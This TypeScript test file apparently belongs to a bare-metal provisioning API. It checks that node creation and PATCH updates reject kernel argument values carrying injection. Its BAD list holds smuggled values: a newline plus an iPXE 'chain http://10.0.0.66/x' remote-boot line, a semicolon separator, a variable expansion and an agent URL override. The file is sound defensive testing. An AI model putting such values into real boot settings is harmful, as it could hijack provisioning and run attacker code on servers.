// T-34 at the API: kernel arguments that could leave their line never get into a node, by POST or by PATCH.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';

import { type Api, openApi } from './api/with-api.ts';

let api: Api;
before(async () => {
  api = await openApi();
});
after(() => api.close());

const BAD = [
  'quiet\nchain http://10.0.0.66/x',
  'a;b',
  '${net0/mac}',
  'ipa-api-url=http://10.0.0.66',
];

test('T-34: a node with such arguments is not made', async () => {
  for (const kernel_append_params of BAD) {
    for (const field of ['driver_info', 'instance_info']) {
      const { status, body } = await api.ask('POST', '/v1/nodes', {
        body: { driver: 'fake-hardware', [field]: { kernel_append_params } },
      });

      assert.equal(status, 400, kernel_append_params);
      assert.match(JSON.stringify(body), new RegExp(`${field} kernel_append_params`));
    }
  }
  assert.deepEqual((await api.ask('GET', '/v1/nodes')).body.nodes, []);
});

test('T-34: a node is not changed to have such arguments', async () => {
  const driver_info = { kernel_append_params: 'console=ttyS0' };
  const made = await api.ask('POST', '/v1/nodes', {
    body: { driver: 'fake-hardware', driver_info },
  });
  const path = `/v1/nodes/${made.body.uuid}`;

  for (const value of BAD) {
    for (const operation of [
      { op: 'add', path: '/driver_info/kernel_append_params', value },
      { op: 'replace', path: '/driver_info', value: { kernel_append_params: value } },
      { op: 'add', path: '/instance_info/ramdisk_kernel_arguments', value },
    ]) {
      const { status } = await api.ask('PATCH', path, { body: [operation] });

      assert.equal(status, 400, JSON.stringify(operation));
    }
  }
  const { body } = await api.ask('GET', path);
  assert.deepEqual(body.driver_info, driver_info);
  assert.deepEqual(body.instance_info, {});
});
